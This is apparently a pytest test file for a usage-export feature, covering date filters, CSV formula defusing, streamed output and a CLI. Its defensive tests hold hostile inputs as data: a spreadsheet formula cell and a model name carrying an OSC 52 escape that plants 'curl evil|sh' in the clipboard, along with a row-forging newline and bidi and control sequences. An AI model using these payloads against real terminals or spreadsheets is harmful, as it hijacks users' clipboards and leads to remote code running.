"""Usage export: filters, CSV (formula cells defused) and JSON with totals; the CLI."""

from __future__ import annotations

import csv
import io
import json
import pathlib
from collections.abc import AsyncIterator

import orjson
import pytest
from click.testing import CliRunner

from llmfabric.accounts.errors import InvalidRequest
from llmfabric.accounts.export import ExportFilter, render, stream, to_csv
from llmfabric.accounts.models import UsageRow

pytestmark = pytest.mark.unit

ROWS = [
    UsageRow("k1", "alice", "m", "2026-01-01", 2, 10, 5),
    UsageRow("k1", "alice", "=HYPERLINK(\"x\")", "2026-01-02", 1, 3, 1, 1),
    UsageRow("k2", "bob", "m", "2026-01-03", 4, 40, 20),
]


def test_csv_defuses_formulas_and_keeps_every_column() -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv(ROWS))))
    assert [r["model"] for r in rows] == ["m", "'=HYPERLINK(\"x\")", "m"]
    assert rows[2]["total_tokens"] == "60" and rows[1]["estimated_requests"] == "1"


def test_filters_and_json_totals() -> None:
    flt = ExportFilter(model="m", until="2026-01-02")
    kept = [r for r in ROWS if flt.keep(r)]
    assert kept == ROWS[:1]
    body, ctype = render(kept, flt, "json")
    doc = orjson.loads(body)
    assert ctype == "application/json" and doc["totals"] == {
        "requests": 2, "prompt_tokens": 10, "completion_tokens": 5}
    assert doc["filter"]["until"] == "2026-01-02"


@pytest.mark.parametrize("kw", [{"since": "2026-1-1"}, {"until": "x"},
                                {"since": "2026-01-02", "until": "2026-01-01"}])
def test_bad_ranges_are_refused(kw: dict[str, str]) -> None:
    with pytest.raises(InvalidRequest):
        ExportFilter(**kw)


def test_unknown_format_is_refused() -> None:
    with pytest.raises(InvalidRequest):
        render(ROWS, ExportFilter(), "xml")


@pytest.mark.parametrize("fmt", ["csv", "json"])
@pytest.mark.parametrize("cut", [0, 1, 2, 3])
async def test_a_streamed_export_is_the_in_memory_one(fmt: str, cut: int) -> None:
    """Pieces a batch at a time, joined: the bytes `render` makes of the same rows (the
    JSON totals come first, from their own query), for no rows and any batching."""
    rows = ROWS[:cut] if cut else []
    flt = ExportFilter(owner="alice", since="2026-01-01")
    batches = [rows[:1], rows[1:]] if len(rows) > 1 else [rows] if rows else []

    async def pages(f: ExportFilter) -> AsyncIterator[list[UsageRow]]:
        assert f is flt
        for b in batches:
            yield b

    async def totals(f: ExportFilter) -> tuple[int, int, int]:
        return (sum(r.requests for r in rows), sum(r.prompt_tokens for r in rows),
                sum(r.completion_tokens for r in rows))

    pieces = [p async for p in stream(pages, totals, flt, fmt)]
    assert b"".join(pieces) == render(rows, flt, fmt)[0]
    # (CSV: the header with the first batch; JSON: a head, the batches, the closing "]}")
    assert len(pieces) == (len(batches) + 2 if fmt == "json" else max(1, len(batches)))
    with pytest.raises(InvalidRequest):
        [p async for p in stream(pages, totals, flt, "xml")]


def test_cli_exports_the_ledger(tmp_path: pathlib.Path) -> None:
    from llmfabric.cli.apikeys import create
    from llmfabric.cli.usage_export import usage_export

    runner = CliRunner()
    db = str(tmp_path / "a.db")
    out = runner.invoke(create, ["--name", "a", "--owner", "alice", "--json", "--db", db])
    assert out.exit_code == 0, out.output
    key_id = json.loads(out.output)["id"]
    import asyncio

    from llmfabric.accounts.store import AccountStore

    async def add() -> None:
        store = await AccountStore.open(db, background=False)
        store.record_usage(key_id, "m", 5, 6)
        await store.aclose()

    asyncio.run(add())
    got = runner.invoke(usage_export, ["--db", db, "--owner", "alice"])
    assert got.exit_code == 0, got.output
    [row] = list(csv.DictReader(io.StringIO(got.output)))
    assert row["key_id"] == key_id and row["total_tokens"] == "11"
    target = tmp_path / "u.json"
    got = runner.invoke(usage_export, ["--db", db, "--format", "json", "-o", str(target)])
    assert got.exit_code == 0 and json.loads(target.read_text())["totals"]["requests"] == 1
    bad = runner.invoke(usage_export, ["--db", db, "--since", "tomorrow"])
    assert bad.exit_code != 0 and "YYYY-MM-DD" in bad.output
    # the right shape but no such day: was accepted and selected nothing
    for day in ("2024-13-01", "2025-02-29"):
        bad = runner.invoke(usage_export, ["--db", db, "--until", day])
        assert bad.exit_code != 0 and f"'{day}' is not a UTC day" in bad.output
    assert runner.invoke(usage_export, ["--db", db, "--since", "2024-02-29"]).exit_code == 0


OSC52 = "\x1b]52;c;Y3VybCBldmlsfHNo\x1b\\"  # writes "curl evil|sh" into the clipboard
HOSTILE = "m" + OSC52 + "\n2026-01-01,k9,admin,m,1,1,1,2,0\u202e\x9b2J"


def _ledger(tmp_path: pathlib.Path, model: str) -> str:
    import asyncio

    from llmfabric.accounts.store import AccountStore

    db = str(tmp_path / "a.db")

    async def add() -> None:
        store = await AccountStore.open(db, background=False)
        key, _ = await store.create_key("a", "alice")
        store.record_usage(key.id, model, 5, 6)
        store.record_usage(key.id, "zürich-llama", 1, 1)
        await store.aclose()

    asyncio.run(add())
    return db


@pytest.mark.hostile
@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_a_model_name_cannot_drive_the_terminal(tmp_path: pathlib.Path, fmt: str,
                                                monkeypatch: pytest.MonkeyPatch) -> None:
    """`keys usage-export` without -o on a terminal: a client's model name with OSC 52, a
    newline that forges a row, a bidi override and a C1 CSI is shown escaped; piped, the
    export stays byte for byte (data for other tools)."""
    from llmfabric.cli import usage_export as cmd

    db = _ledger(tmp_path, HOSTILE)
    runner = CliRunner()
    piped = runner.invoke(cmd.usage_export, ["--db", db, "--format", fmt])
    assert piped.exit_code == 0, piped.output
    if fmt == "csv":
        assert HOSTILE in piped.output
    else:
        assert HOSTILE in {r["model"] for r in json.loads(piped.output)["data"]}
    monkeypatch.setattr(cmd, "_is_terminal", lambda: True)
    shown = runner.invoke(cmd.usage_export, ["--db", db, "--format", fmt])
    assert shown.exit_code == 0, shown.output
    out = shown.output
    assert all(c.isprintable() or c == "\n" for c in out), repr(out)
    assert "zürich-llama" in out
    if fmt == "csv":
        rows = list(csv.DictReader(io.StringIO(out)))
        assert len(rows) == 2 and out.count("\n") == 3  # the newline opened no row
        assert {r["model"] for r in rows} == {
            "zürich-llama",
            "m\\x1b]52;c;Y3VybCBldmlsfHNo\\x1b\\\\n2026-01-01,k9,admin,m,1,1,1,2,0\\u202e\\x9b2J"}
    else:
        assert "\n" not in out  # (JSON's own escapes: the same document)
        assert {r["model"] for r in json.loads(out)["data"]} == {"zürich-llama", HOSTILE}


def test_an_honest_export_on_a_terminal_is_unchanged(tmp_path: pathlib.Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    from llmfabric.cli import usage_export as cmd

    db = _ledger(tmp_path, "meta-llama/Llama-3.1-8B, \"q4\"")
    runner = CliRunner()
    for fmt in ("csv", "json"):
        piped = runner.invoke(cmd.usage_export, ["--db", db, "--format", fmt]).output
        monkeypatch.setattr(cmd, "_is_terminal", lambda: True)
        assert runner.invoke(cmd.usage_export, ["--db", db, "--format", fmt]).output == piped
        monkeypatch.undo()
